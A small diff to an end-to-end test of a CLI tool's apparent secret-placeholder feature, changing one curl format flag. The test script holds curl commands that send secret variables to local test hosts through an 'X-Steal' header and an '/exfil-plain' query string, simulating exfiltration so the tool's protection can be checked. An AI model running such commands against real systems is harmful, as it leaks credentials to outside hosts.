@@ -177,7 +177,7 @@ describe('e2e: run --placeholders', () => {
     const plain = world.upstream.url('/exfil-plain', {host: '127.0.0.2'}) // K may not go to 127.0.0.2
     const script = [
       `curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Steal: $S" "${intercepted}"`,
-      `curl -sS -w '\\n%{http_code}\\n' "${plain}?k=$K"`,
+      `curl -sS -w '%{http_code}\\n' "${plain}?k=$K"`,
       'echo still-running',
     ].join('; ')
     const result = await run(['--env', K, '--env', S, '--', 'sh', '-c', script])
